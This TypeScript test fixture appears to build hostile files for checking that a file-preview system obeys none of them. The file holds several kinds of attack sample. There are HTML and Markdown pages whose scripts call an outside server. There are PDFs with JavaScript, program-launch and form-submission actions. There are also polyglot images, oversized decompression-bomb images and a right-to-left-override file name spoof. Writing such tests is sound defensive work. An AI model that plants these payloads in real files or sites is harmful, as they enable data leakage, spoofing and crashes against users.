import { type HostileFile, hostileDrawings, none, shown } from "./hostile-drawings.ts";
import { GIF, named, pdf, png } from "./preview-files.ts";

/** A script that tries everything. `stranger`: the address of another server. */
function attack(stranger: string): string {
  return [
    `for (const call of [`,
    `() => fetch("${stranger}/fetch"),`,
    `() => new WebSocket("${stranger.replace("http", "ws")}/socket"),`,
    `() => navigator.sendBeacon("${stranger}/beacon"),`,
    `() => { new Image().src = "${stranger}/image" },`,
    `() => localStorage.setItem("attacked", "1"),`,
    `() => { document.cookie = "attacked=1" },`,
    `() => open("${stranger}/window"),`,
    `() => parent.postMessage("attacked", "*"),`,
    `() => { top.document.title = "attacked" },`,
    `() => { top.location = "${stranger}/navigated" },`,
    `() => alert("attacked"),`,
    `]) { try { call(); } catch {} }`,
  ].join(" ");
}

/** A page that attacks with and without script. */
export function hostilePage(stranger: string): string {
  return `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${stranger}/refresh">
    <link rel="stylesheet" href="${stranger}/style"><link rel="preconnect" href="${stranger}">
    <style>@import "${stranger}/import"; body { background: url(${stranger}/background) }</style>
    <script>${attack(stranger)}</script><script src="${stranger}/script"></script></head>
    <body onload='${attack(stranger)}'><img src="${stranger}/picture" onerror='${attack(stranger)}'>
    <iframe src="${stranger}/frame"></iframe><object data="${stranger}/object"></object>
    <video src="${stranger}/film" autoplay></video><form action="${stranger}/form"></form></body></html>`;
}

/** Files that no preview may obey, each in one share. */
export function hostileFiles(stranger: string): Record<string, HostileFile> {
  const page = hostilePage(stranger);
  const script = attack(stranger);
  const action = (what: string) => pdf({ catalogue: `/OpenAction << ${what} >>` });
  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${stranger}/link) >> >>`;
  const field = `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [0 0 99 99] /AA << /PV << /S /SubmitForm /F (${stranger}/form) >> >> >>`;
  return {
    ...hostileDrawings(stranger, script),
    "HTML named .png": shown("page.png", page),
    "HTML named .pdf": shown("page.pdf", page),
    "HTML named .txt": shown("page.txt", page),
    "HTML with the type text/html": {
      item: { ...named("page.html", page), type: "text/html" },
      outcome: "shown",
    },
    "Markdown with HTML": shown(
      "read.md",
      `# Hello\n\n<script>${script}</script>\n\n![a](${stranger}/a)`,
    ),
    "a PDF with a script": shown(
      "script.pdf",
      action(
        `/S /JavaScript /JS (app.launchURL\\("${stranger}/js"\\); app.alert\\("attacked"\\);)`,
      ),
    ),
    "a PDF that opens an address": shown("uri.pdf", action(`/S /URI /URI (${stranger}/uri)`)),
    "a PDF that starts a program": shown(
      "launch.pdf",
      action(`/S /Launch /F (${stranger}/launch) /Win << /F (calc.exe) >>`),
    ),
    "a PDF that opens another PDF": shown(
      "remote.pdf",
      action(`/S /GoToR /F << /FS /URL /F (${stranger}/remote) >> /D [0 /Fit]`),
    ),
    "a PDF that sends a form": shown(
      "form.pdf",
      pdf({
        catalogue: `/AcroForm << /Fields [20 0 R] /XFA 21 0 R >> /OpenAction << /S /SubmitForm /F (${stranger}/submit) >>`,
        page: `/Annots [20 0 R] /AA << /O << /S /SubmitForm /F (${stranger}/page) >> >>`,
        objects: {
          20: field,
          21: stream(`<template><event><submit target="${stranger}/xfa"/></event></template>`),
        },
      }),
    ),
    "a PDF whose page is one large link": shown(
      "link.pdf",
      pdf({ page: "/Annots [20 0 R]", objects: { 20: link } }),
    ),
    "a PDF with an attached page": shown(
      "attached.pdf",
      pdf({
        catalogue: "/Names << /EmbeddedFiles << /Names [(page.html) 20 0 R] >> >>",
        objects: {
          20: "<< /Type /Filespec /F (page.html) /EF << /F 21 0 R >> >>",
          21: stream(page),
        },
      }),
    ),
    "a PDF whose content is on another server": shown(
      "external.pdf",
      pdf({
        page: "/Contents 20 0 R",
        objects: {
          20: `<< /Length 0 /F << /FS /URL /F (${stranger}/stream) >> >>\nstream\n\nendstream`,
        },
      }),
    ),
    "a PDF with a page of a million kilometres": shown(
      "large.pdf",
      pdf({ page: "/MediaBox [0 0 9999999999 9999999999]" }),
    ),
    "a GIF that is a script too": shown(
      "polyglot.gif",
      Buffer.concat([Buffer.from("GIF89a"), GIF.subarray(6), Buffer.from(`*/=1;${script}`)]),
    ),
    "a PDF that is HTML too": shown("polyglot.pdf", Buffer.concat([pdf(), Buffer.from(page)])),
    "HTML with a PDF inside": shown("inside.pdf", Buffer.concat([Buffer.from(page), pdf()])),
    "a PNG that is HTML too": shown("polyglot.png", Buffer.concat([png(2, 2), Buffer.from(page)])),
    "a PNG of 60,000 by 60,000 pixels": none(
      "bomb.png",
      png(9, 9, { width: 60_000, height: 60_000 }),
    ),
    "a GIF of 65,535 by 65,535 pixels": none(
      "bomb.gif",
      Buffer.concat([Buffer.from("GIF89a"), Buffer.alloc(4, 255), GIF.subarray(10)]),
    ),
    "a PNG that claims to be smaller than it is": {
      ...shown("short.png", png(900, 900, { width: 9, height: 9 })),
      inFirefox: "none",
    },
    "an AVIF that may be larger than it claims": none(
      "small.avif",
      Buffer.concat([
        Buffer.from("\0\0\0\x14ftypavif\0\0\0\0avif\0\0\0\x14ispe\0\0\0\0", "latin1"),
        Buffer.from("0000000900000009", "hex"),
      ]),
    ),
    "a damaged picture": none("damaged.png", png(9, 9).subarray(0, 40)),
    "a damaged PDF": none("damaged.pdf", "%PDF-1.7\nnothing"),
    "a damaged film": none("damaged.webm", Buffer.from("1a45dfa3ffffffffffffff00", "hex")),
    "a playlist with the name and the type of a film": {
      item: {
        ...named("film.mp4", `#EXTM3U\n#EXT-X-VERSION:3\n#EXTINF:9,\n${stranger}/film.ts\n`),
        type: "video/mp4",
      },
      outcome: "shown",
    },
    "a playlist": shown(
      "list.m3u8",
      `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${stranger}/a.m3u8\n`,
    ),
    "a film after a playlist": none(
      "list.bin",
      Buffer.concat([Buffer.from(`#EXTM3U\n${stranger}/a.ts\n`), Buffer.alloc(99)]),
    ),
    "a text that reads in another order": shown("bidi.txt", "invoice\u202etxt.exe\u2066\u200b"),
  };
}

function stream(content: string): string {
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
}
